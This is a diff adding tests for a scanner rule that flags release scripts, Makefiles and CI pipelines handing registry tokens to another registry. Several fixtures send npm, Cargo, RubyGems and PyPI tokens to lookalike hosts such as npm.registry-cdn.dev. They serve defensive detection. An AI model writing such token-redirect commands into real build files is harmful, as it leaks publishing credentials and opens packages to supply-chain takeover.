@@ -414,6 +414,29 @@ describe('remote-package-install in scripts, Makefiles and CI pipelines', () => 
     expect(wantsHeredocContext('src/app.py', '@@ -1,1 +1,2 @@\n x = 1\n+url = "https://example.com"')).toBe(false);
   });
 
+  it('reports a registry token an added command hands to another registry (publish-token-redirect), high, in scripts, Makefiles and pipelines', () => {
+    expect(scriptFindings('scripts/release.sh', ['npm publish'], ['echo "//npm.registry-cdn.dev/:_authToken=${NPM_TOKEN}" > .npmrc', 'npm publish --registry https://npm.registry-cdn.dev/'], 'publish-token-redirect')).toEqual(['high scripts/release.sh:2']);
+    expect(scriptFindings('Makefile', [], ['release:', '\tcargo publish --index sparse+https://crates.rs-mirror.dev/index/ --token $(CARGO_REGISTRY_TOKEN)'], 'publish-token-redirect')).toEqual(['high Makefile:3']);
+    expect(scriptFindings('Jenkinsfile', [], ["sh 'gem push --host https://gems.rubycentral-cdn.org pkg/*.gem -k $RUBYGEMS_API_KEY'"], 'publish-token-redirect')).toEqual(['high Jenkinsfile:2']);
+    expect(scriptFindings('.gitlab-ci.yml', [], ['  - npm config set //registry.npmjs-cache.io/:_authToken "$NPM_TOKEN"'], 'publish-token-redirect')).toEqual(['high .gitlab-ci.yml:2']);
+    expect(scriptFindings('scripts/release.sh', [], ['twine upload --repository-url https://upload.pypi-mirror.dev/legacy/ -u __token__ -p "$PYPI_TOKEN" dist/*'], 'publish-token-redirect')).toEqual(['high scripts/release.sh:2']);
+  });
+
+  it('leaves the registries themselves, GitHub Packages, the machine itself, a private registry\'s own token, an install and what the base already did', () => {
+    for (const lines of [
+      ['echo "//registry.npmjs.org/:_authToken=${NPM_TOKEN}" > .npmrc', 'npm publish'],
+      ['echo "//npm.pkg.github.com/:_authToken=${NPM_TOKEN}" >> .npmrc', 'npm publish --registry https://npm.pkg.github.com'],
+      ['echo "//localhost:4873/:_authToken=$NPM_TOKEN" >> .npmrc', 'npm publish --registry http://localhost:4873'],
+      ['echo "//nexus.acme.dev/repository/npm/:_authToken=${NEXUS_NPM_TOKEN}" > .npmrc', 'npm publish'],
+      ['npm install --registry https://registry.npmmirror.com', 'echo $NPM_TOKEN | wc -c'],
+      ['cargo publish --token "$CARGO_REGISTRY_TOKEN"'],
+      // A pipeline's YAML key naming a repository, beside a PyPI token used elsewhere: no upload there.
+      ['  repository: https://gitlab.example.dev/acme/docs', '  - echo "$PYPI_TOKEN" | wc -c'],
+    ]) expect(scriptFindings('scripts/release.sh', [], lines, 'publish-token-redirect'), lines.join(' ; ')).toEqual([]);
+    const before = ['echo "//npm.registry-cdn.dev/:_authToken=${NPM_TOKEN}" > .npmrc', 'npm publish --registry https://npm.registry-cdn.dev/'];
+    expect(scriptFindings('scripts/release.sh', before, [...before.slice(0, 1), 'npm publish --registry https://npm.registry-cdn.dev/ --tag next'], 'publish-token-redirect')).toEqual([]);
+  });
+
   it('leaves a here-document the base already wrote, other files, PyPI, an auth-token line and values passed in alone', () => {
     const heredoc = ['cat > ~/.pip/pip.conf <<EOF', '[global]', 'extra-index-url = https://pkgs.example.dev/simple', 'EOF'];
     expect(scriptFindings('scripts/setup.sh', heredoc, heredoc.map((l) => l.replace('EOF', 'CONF')), 'pip-extra-index')).toEqual([]);
